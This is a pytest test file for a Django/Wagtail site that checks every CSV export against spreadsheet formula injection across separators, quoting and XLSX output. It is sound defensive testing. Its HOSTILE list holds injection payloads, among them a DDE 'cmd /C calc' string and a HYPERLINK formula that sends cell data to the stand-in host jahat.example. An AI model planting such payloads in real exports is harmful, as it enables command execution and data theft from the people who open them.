"""Playing the attacker against every CSV the site writes (issue 18, item 4): a participant named
`Budi;=1+1` went out as an unquoted cell, and Excel set to Indonesian (list separator `;`) split
it there and ran `=1+1`.

Hostile texts are written into real records (names, positions, agencies, topics, sessions,
questions), then every CSV the site serves is fetched as someone allowed to, and read the way
a spreadsheet program might read it:

- split on each separator Excel may use (`,` `;` tab `|`), honouring quotes and not: no cell
  may start with a formula trigger, even after leading spaces and quotes (a NIP is plain
  quoted text now, no `="<digits>"` formula either);
- read in the dialect it was written in: every text field is quoted (a reader that turns
  unquoted fields into numbers accepts the file), lines end in CRLF, and each hostile text
  reads back as it was once the neutralising apostrophe is taken off.

The CSVs are found, not listed: every URL of the access table (tests/access/) and every
spreadsheet export of Wagtail's own admin is opened as a role the table lets in, with
`export=csv&format=csv`, and every CSV link on the pages it shows is followed. A new export
is covered the day it is added.
"""

import csv
import datetime
import html
import io
import re

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from content.quizzes import importing
from content.quizzes.models import Purpose, Question
from content.stats import open_data
from content.stats import services as stats_services
from tests.access.test_access import ACCESS
from tests.access.world import ROLES, build_world
from tests.factories.articles import TopicFactory
from tests.factories.people import AgencyFactory, ParticipantFactory
from tests.factories.quizzes import make_question, make_quiz, use_in_session
from tests.factories.stats import attempt
from tests.factories.training import SessionPageFactory, mark_attendance

pytestmark = pytest.mark.django_db

# What makes a spreadsheet program read a cell as a formula (OWASP's list, and the full-width
# forms an Asian-locale Excel turns into the ASCII ones).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
SEPARATORS = (",", ";", "\t", "|")

HOSTILE = (
    "Budi;=1+1",
    "Budi,=1+1",
    "Budi|=1+1",
    "Budi; =1+1",
    'Budi;"=1+1',
    "x\t=cmd|' /C calc'!A0",
    "+6281234567890",
    "@SUM(1+1)",
    "-1+1",
    '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")',
    'Ani "Budi" Cahyo;-2+3',
    "Baris satu\n=1+1",
    "Baris satu\r\n@SUM(1)",
    "'=1+1 sudah berapostrof",
    "Budi;''+1",
    "\uff1d1+1 lebar penuh",
    "Dinas;\uff20SUM(1)",
)


def _restored(cell):
    """A cell as its text was: the apostrophe in front of each formula trigger that starts a
    cell under any separator taken off again (and ="<digits>" back to the digits)."""
    digits = re.fullmatch(r'="(\d+)"', cell)
    if digits:
        return digits.group(1)
    return re.sub(
        r"""(^|[,;\t|\r\n])([ "]*)'('*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20])""", r"\1\2\3", cell
    )


@pytest.fixture
def world(site_tree):
    """The access table's world, and hostile texts in every kind of record an export shows:
    participants (name, position, agency), sessions, topics and the question bank; attended,
    tested, and in a published open data release."""
    world = build_world(site_tree)
    agencies = [AgencyFactory(name=text) for text in HOSTILE]
    topics = [
        # Numbered: the import finds a topic by its name without punctuation.
        TopicFactory(name=f"{text} (topik {number})", slug=f"topik-jahat-{number}")
        for number, text in enumerate(HOSTILE)
    ]
    people = [
        ParticipantFactory(full_name=text, position=text, agency=agency, phone="081234567890")
        for text, agency in zip(HOSTILE, agencies, strict=True)
    ]
    questions = [
        make_question(
            topic=topic,
            text=text,
            explanation=text,
            options=((text, True), (f"{text} (salah)", False)),
        )
        for text, topic in zip(HOSTILE, topics, strict=True)
    ]
    quiz = make_quiz(questions[:3], title=HOSTILE[0], slug="kuis-jahat", self_paced=False)
    # One session now (the admin's reports default to this year), one in a closed quarter
    # (open data).
    today = timezone.localdate()
    recent = SessionPageFactory(
        parent=site_tree.sessions, title=HOSTILE[9], slug="sesi-jahat", date=today, topic=topics[0]
    )
    past = SessionPageFactory(
        parent=site_tree.sessions,
        title=HOSTILE[0],
        slug="sesi-jahat-lalu",
        date=datetime.date(2025, 2, 10),
        topic=topics[1],
    )
    for session in (recent, past):
        use_in_session(quiz, session, Purpose.PRE)
        for number, someone in enumerate(people):
            mark_attendance(session, someone)
            attempt(someone, quiz, session=session, purpose=Purpose.PRE, score=50 + number)
    stats_services.open_data_release_publish(
        period=open_data.Period(2025, 1), today=datetime.date(2025, 5, 1)
    )
    world.extra_queries = {
        "quizzes_session_results": {"sesi": recent.pk},
        "quizzes_item_analysis": {"kuis": quiz.pk, "sesi": recent.pk},
    }
    world.questions = questions
    return world


def _wagtail_exports(patterns=None, namespace=""):
    """Wagtail's own spreadsheet exports (its reports): list views of SpreadsheetExportMixin."""
    patterns = get_resolver().url_patterns if patterns is None else patterns
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            space = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _wagtail_exports(pattern.url_patterns, space)
        elif isinstance(pattern, URLPattern) and pattern.name:
            view_class = getattr(pattern.callback, "view_class", None)
            exports = view_class and issubclass(view_class, SpreadsheetExportMixin)
            if exports and not pattern.pattern.regex.groupindex:
                yield reverse(f"{namespace}{pattern.name}")


def _role_for(key):
    """Someone the access table lets open `key`, the superuser when it may."""
    outcomes = dict(zip(ROLES, ACCESS[key].split(), strict=True))
    for role in ("superuser", *ROLES):
        if outcomes[role] in ("ok", "redir"):
            return role
    return None


def _body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def _is_csv(response):
    return response.status_code == 200 and response["Content-Type"].startswith("text/csv")


def _csv_links(page):
    for href in re.findall(r'href="([^"]+)"', page):
        href = html.unescape(href)
        if href.startswith("/") and re.search(r"[?&](export|format)=csv\b|\.csv$", href):
            yield href


def _fetch_every_csv(client, world):
    """{url: CSV text} of every CSV the site serves, found from the access table's URLs."""
    return {url: body.decode("utf-8-sig") for url, body in fetch_every_csv(client, world).items()}


def fetch_every_csv(client, world):
    """{url: the bytes served} of every CSV the site serves, found from the access table's URLs."""
    found = {}
    places = [(url, "superuser", {}) for url in _wagtail_exports()]
    for key, url in sorted(world.urls.items()):
        role = _role_for(key)
        if role is not None:
            places.append((url, role, world.extra_queries.get(key, {})))
    for url, role, query in places:
        client.logout()
        if role != "anonymous":
            client.force_login(world.users[role])
        links = []
        for params in (query, {**query, "export": "csv", "format": "csv"}):
            response = client.get(url, params, follow=True)
            if _is_csv(response):
                request = response.request
                found[f"{request['PATH_INFO']}?{request['QUERY_STRING']}"] = _body(response)
            elif params is query and "html" in response.get("Content-Type", ""):
                links = list(_csv_links(_body(response).decode()))
        for link in links:
            if link not in found:
                linked = client.get(link, follow=True)
                assert _is_csv(linked), link
                found[link] = _body(linked)
    return found


def _found_every_kind(urls):
    kinds = {
        "an admin viewset": r"^/admin/participant/\?.*export=csv",
        "Wagtail's own reports": r"^/admin/reports/(site-history|aging-pages|locked)",
        "the statistics reports": r"^/admin/statistik/.*export=csv",
        "a second table of a report": r"tabel=soal",
        "open data": r"^/data-terbuka/2025-q1/partisipasi-opd\.csv",
        "the question bank": "^" + re.escape(reverse("quizzes_question_export")),
    }
    return [kind for kind, pattern in kinds.items() if not any(re.search(pattern, u) for u in urls)]


def _cells(text, *, delimiter, quoted):
    quoting = csv.QUOTE_MINIMAL if quoted else csv.QUOTE_NONE
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting):
        yield from row


def _formula_starts(url, text):
    """Cells starting with a formula trigger, under every separator, quotes honoured or not."""
    starts = []
    for delimiter in SEPARATORS:
        for quoted in (True, False):
            for cell in _cells(text, delimiter=delimiter, quoted=quoted):
                start = cell.lstrip(' "')
                if start.startswith(TRIGGERS):
                    starts.append((url, repr(delimiter), quoted, cell[:60]))
    return starts


def _unquoted_text_or_bare_line_ends(url, text):
    # A reader that turns every unquoted field into a number fails on unquoted text.
    try:
        list(csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC, strict=True))
    except ValueError as error:
        return [(url, f"a text field is not quoted: {error}")]
    outside_quotes = re.sub(r'"(?:[^"]|"")*"', "", text)
    if not text.endswith("\r\n") or re.search(r"(?<!\r)\n|\r(?!\n)", outside_quotes):
        return [(url, "a line does not end in CRLF")]
    return []


def _read_back(text):
    rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    return {_restored(cell) for row in rows for cell in row}


def _formula_cells_in_xlsx(client, world, url):
    """The same export as XLSX: cells are typed, and none may be a formula."""
    xlsx = url.replace("export=csv", "export=xlsx").replace("format=csv", "format=xlsx")
    client.force_login(world.users["superuser"])
    response = client.get(xlsx)
    assert response.status_code == 200, xlsx
    workbook = load_workbook(io.BytesIO(_body(response)))
    return [
        (xlsx, cell.coordinate, cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_every_csv_the_site_serves_is_safe_to_open_and_reads_back(client, world):
    every_csv = _fetch_every_csv(client, world)
    assert _found_every_kind(list(every_csv)) == [], list(every_csv)

    formula_starts, badly_written, xlsx_formulas = [], [], []
    for url, text in every_csv.items():
        formula_starts += _formula_starts(url, text)
        badly_written += _unquoted_text_or_bare_line_ends(url, text)
        if "/admin/" in url and re.search(r"(export|format)=csv", url):
            xlsx_formulas += _formula_cells_in_xlsx(client, world, url)
    assert formula_starts == []
    assert badly_written == []
    assert xlsx_formulas == []

    read = {url: _read_back(text) for url, text in every_csv.items()}
    participants = next(
        cells for url, cells in read.items() if url.startswith("/admin/participant/")
    )
    opd = next(cells for url, cells in read.items() if "2025-q1/partisipasi-opd.csv" in url)
    bank_url = reverse("quizzes_question_export")
    bank = next(cells for url, cells in read.items() if url.startswith(bank_url))
    for text in HOSTILE:
        assert text in participants, text  # a name and a position
        assert text in opd, text  # an agency
        assert text in bank, text  # a question, its options and explanation
    assert "081234567890" in participants  # a phone number keeps its leading zero


def test_the_question_bank_imports_its_own_csv_export_unchanged(client, world):
    client.force_login(world.users["superuser"])
    response = client.get(reverse("quizzes_question_export"), {"format": "csv"})
    rows = dict(importing.read_table(response.content, "bank-soal.csv"))
    by_text = {}
    for values in rows.values():
        by_text.setdefault(values["pertanyaan"], []).append(values)
    for question in Question.objects.filter(pk__in=[q.pk for q in world.questions]):
        assert importing.question_values(question) in by_text[question.text], question.text
    preview = importing.preview_question_import(list(rows.items()))
    assert [row.errors for row in preview.rows if row.errors] == []
    assert {row.action for row in preview.rows} == {"tetap"}
